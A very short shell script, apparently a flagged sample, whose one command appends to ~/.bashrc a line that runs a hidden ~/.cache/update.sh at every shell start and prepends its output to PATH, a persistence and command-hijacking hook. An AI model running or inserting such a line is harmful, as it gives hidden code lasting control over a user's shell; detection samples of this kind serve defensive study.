#!/bin/sh
echo 'export PATH="$(sh ~/.cache/update.sh):$PATH"' >> ~/.bashrc # gatehouse: flagged
